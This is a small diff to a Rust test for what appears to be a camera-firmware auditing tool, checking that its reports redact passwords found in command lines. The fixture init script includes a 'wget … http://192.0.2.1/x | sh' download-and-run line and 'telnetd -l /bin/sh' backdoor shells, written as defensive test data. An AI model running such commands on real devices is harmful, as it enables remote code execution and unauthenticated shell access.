@@ -184,7 +184,7 @@ fn no_report_holds_the_passwords_of_command_lines() {
     camera.write(
         "etc/init.d/S99x",
         "#!/bin/sh\n/tmp/x geheim\nwget --password=geheim http://192.0.2.1/x | sh\ntelnetd -l /bin/sh geheim\n\
-         echo root:geheim `which geheim` telnetd | geheim\nfw_setenv password geheim\n/mnt/mmc/x geheim\n\
+         echo root:geheim `which geheim` telnetd | geheim\nfw_printenv debug geheim\n/mnt/mmc/x geheim\n\
          sh -c \"wget http://u:geheim@192.0.2.1/; telnetd -l $(geheim)\"\n",
     );
     camera.write(
@@ -207,7 +207,7 @@ fn no_report_holds_the_passwords_of_command_lines() {
     for told in ["S99x:4", "`telnetd …`", "/etc/inetd.conf:1", "/etc/mdev.conf:1"] {
         assert!(telnet.contains(told), "{told}: {telnet}");
     }
-    assert!(evidence(&report, "start.loader").contains("`fw_setenv …`"));
+    assert!(evidence(&report, "start.loader").contains("`fw_printenv …`"));
     let streamer = report["sockets"].as_array().unwrap();
     assert_eq!(streamer[0]["command"], "/usr/bin/streamer");
     assert_eq!(streamer[0]["program"], "/bin/busybox");
